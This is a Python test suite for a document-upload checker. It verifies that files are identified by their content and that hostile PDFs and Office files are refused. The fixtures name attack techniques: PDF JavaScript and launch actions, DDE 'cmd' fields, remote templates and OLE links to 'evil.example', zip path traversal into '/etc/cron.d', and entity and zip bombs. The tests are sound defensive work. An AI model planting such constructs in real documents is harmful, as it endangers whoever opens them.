"""Documents: told by content, harmless when opened, or refused in a sentence that says what to do."""

import os
from io import BytesIO

import pikepdf
import pytest

from intake.documents import FILMS, PAPERS, TEXTS, CheckedDocument, check
from intake.errors import UploadRefused
from tests.intake import papers, pictures
from tests.jobs.processes import children

ALL = PAPERS | TEXTS | FILMS
FILM = b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 40


def checked(file: bytes, name: str = "文件", taken: frozenset[str] = ALL) -> CheckedDocument:
    return check(file, name=name, taken=taken, film_mib=1)


@pytest.mark.parametrize(
    ("make", "name", "ending"),
    [
        (papers.pdf, "规程.exe", "pdf"),
        (papers.word, "规程.doc", "docx"),
        (papers.sheet, "台账", "xlsx"),
        (lambda: "企业,电话\r\n甲,1\r\n".encode("gb18030"), "台账.CSV", "csv"),
        (lambda: "先测气，再下池。".encode("utf-16"), "话.txt", "txt"),
        (lambda: b"\xef\xbb\xbfhello", "hello.bat", "txt"),
        (lambda: b"WEBVTT\n\n00:00.000 --> 00:02.000\nx\n", "字幕.txt", "vtt"),
        (lambda: FILM, "film.exe", "mp4"),
        (lambda: b"\x1a\x45\xdf\xa3\x9f\x42\x82\x84webm" + b"\x00" * 99, "film.mp4", "webm"),
    ],
)
def test_a_document_is_told_by_its_content(make: object, name: str, ending: str) -> None:
    assert checked(make(), name).ending == ending  # type: ignore[operator]


def test_pages_are_counted_and_files_are_left_as_they_were() -> None:
    content = papers.pdf(7)
    file = BytesIO(content)
    assert check(file, name="a", taken=PAPERS) == CheckedDocument("pdf", 7, is_scan=True)
    assert file.read() == content


def locked(**allow: bool) -> bytes:
    return papers.pdf(
        encryption=pikepdf.Encryption(owner="o", user="" if allow else "u", allow=pikepdf.Permissions(**allow))
    )


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda: papers.pdf(1001), "1001 页"),
        (locked, "密码"),
        (lambda: locked(extract=False), "密码"),
        (lambda: papers.pdf(change=papers.script), "程序、附件"),
        (lambda: papers.pdf(change=papers.launch), "程序、附件"),
        (lambda: papers.pdf(change=papers.clip), "程序、附件"),
        (lambda: papers.pdf(change=papers.attachment), "程序、附件"),
        (lambda: papers.pdf(change=papers.script).replace(b"/JavaScript", b"/J#61vaScript"), "程序、附件"),
        (lambda: papers.pdf(change=papers.launch, object_stream_mode=pikepdf.ObjectStreamMode.generate), "程序、附件"),
        (lambda: papers.pdf(40)[:900], "打不开"),
        (lambda: b"%PDF-1.7\n" + b"\x00" * 4000, "打不开"),
    ],
    ids=range(11),
)
def test_a_pdf_that_does_more_than_show_pages_is_refused(make: object, said: str) -> None:
    with pytest.raises(UploadRefused, match=said) as refusal:
        checked(make())  # type: ignore[operator]
    assert str(refusal.value).endswith("。")


def test_a_pdf_that_unfolds_ends_in_its_child() -> None:
    before = set(children(os.getpid()))
    file = papers.pdf(change=papers.unfolding)
    assert len(file) < 8 * 1024 * 1024
    with pytest.raises(UploadRefused, match="打不开"):
        checked(file)
    assert set(children(os.getpid())) <= before


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda: papers.rewritten(papers.word(), {}, {"word/vbaProject.bin": b"\x00"}), "宏"),
        (
            lambda: papers.rewritten(
                papers.word(),
                {
                    "[Content_Types].xml": lambda text: text.replace(
                        "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
                        "vnd.ms-word.document.macroEnabled.main",
                    )
                },
            ),
            "宏",
        ),
        (lambda: papers.rewritten(papers.word(), {}, {"word/activeX/activeX1.bin": b"\x00"}), "宏"),
        (lambda: papers.related("attachedTemplate", "http://evil.example/t.dotm"), "evil.example"),
        (lambda: papers.related("attachedTemplate", "\\\\evil.example\\t.dotm"), "evil.example"),
        (lambda: papers.related("attachedTemplate", "file://evil.example/t.dotm"), "evil.example"),
        (lambda: papers.related("oleObject", "mhtml:http://evil.example/x"), "evil.example"),
        (lambda: papers.related("image", "https://evil.example/1.png"), "evil.example"),
        (lambda: papers.related("hyperlink", " JavaScript:alert(1)"), "alert"),
        (
            lambda: papers.with_body(
                "<w:p><w:r><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText></w:r></w:p>"
            ),
            "DDE",
        ),
        (lambda: papers.with_body('<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'), "DDE"),
        (papers.entities, "打不开"),
        (lambda: papers.entities("word/styles.xml"), "打不开"),
        (lambda: papers.entities(papers.RELATIONS), "打不开"),
        (lambda: papers.tables(60), "套了太多层"),
        (lambda: papers.with_body("<w:sdt>" * 3000 + "</w:sdt>" * 3000), "套了太多层"),
        (papers.unfolding_archive, "太大"),
        (lambda: papers.with_body("<w:p/>" * 8_000_000), "太大"),
        (lambda: papers.rewritten(papers.word(), {}, {f"word/media/{n}.png": b"" for n in range(3100)}), "太大"),
        (lambda: papers.rewritten(papers.word(), {}, {"../../etc/cron.d/x": b""}), "打不开"),
        (lambda: papers.rewritten(papers.word(), {}, {"WORD/Document.xml": b""}), "打不开"),
        (papers.locked_archive, "密码"),
        (lambda: papers.word()[:3000], "打不开"),
        (lambda: papers.rewritten(papers.word(), {papers.WORD: lambda text: text[:900]}), "打不开"),
        (lambda: b"PK\x03\x04" + b"\x00" * 100, "打不开"),
        (lambda: b"PK\x05\x06" + b"\x00" * 18, "只收"),
    ],
    ids=range(26),
)
def test_an_office_file_that_acts_unfolds_or_calls_out_is_refused(make: object, said: str) -> None:
    with pytest.raises(UploadRefused, match=said) as refusal:
        checked(make())  # type: ignore[operator]
    assert str(refusal.value).endswith("。")


def test_ordinary_office_files_are_not_refused_for_what_offices_do() -> None:
    for file in (
        papers.tables(5),
        papers.related("hyperlink", "https://www.mem.gov.cn/"),
        papers.related("hyperlink", "mailto:a@example.org"),
        papers.related("attachedTemplate", "file:///C:\\Users\\zhang\\Templates\\%E9%80%9A%E7%9F%A5.dotx"),
        papers.related("image", "C:\\图\\1.png"),
    ):
        assert checked(file).ending == "docx"


@pytest.mark.parametrize(
    ("file", "name", "said"),
    [
        (b"", "a.pdf", "空的"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "老的.doc", "旧版 Office"),
        (b"Rar!\x1a\x07\x00", "a.rar", "压缩包"),
        (b"MZ\x90\x00", "setup.pdf", "程序"),
        (b"<!DOCTYPE html><script>alert(1)</script>", "a.txt", "网页"),
        (pictures.SVG, "a.txt", "SVG"),
        (pictures.png(), "a.pdf", "图片"),
        (b"\x00\x01\x02", "a.txt", "打不开"),
        (b"hello \x1b[31m", "a.txt", "纯文字"),
        (b"\xff\xff\xff\xffabc", "a.txt", "纯文字"),
        (b"1\r\n00:00:00,000 --> 00:00:02,000\r\nx", "字幕.srt", "WebVTT"),
        (b"1\r\n00:00:00,000 --> 00:00:02,000\r\nx", "字幕.vtt", "WebVTT"),
        ("WEBVTT\n\n先测气".encode("gb18030"), "字幕.vtt", "WebVTT"),
        (b"\x00\x00\x00\x14ftypqt  " + b"\x00" * 40, "a.mov", "MP4"),
        (b"\x1a\x45\xdf\xa3\x9f\x42\x82\x88matroska", "a.webm", "MP4"),
        (FILM + b"\x00" * 1024 * 1024, "a.mp4", "最多 1 MB.*720p"),
    ],
    ids=range(16),
)
def test_what_is_not_welcome_is_refused_in_words(file: bytes, name: str, said: str) -> None:
    with pytest.raises(UploadRefused, match=said) as refusal:
        checked(file, name)
    assert str(refusal.value).endswith("。")


def test_what_is_welcome_elsewhere_is_refused_here_with_what_is() -> None:
    with pytest.raises(UploadRefused, match="这里只收 DOCX、PDF、XLSX 文件"):
        checked(b"hello", "a.txt", PAPERS)
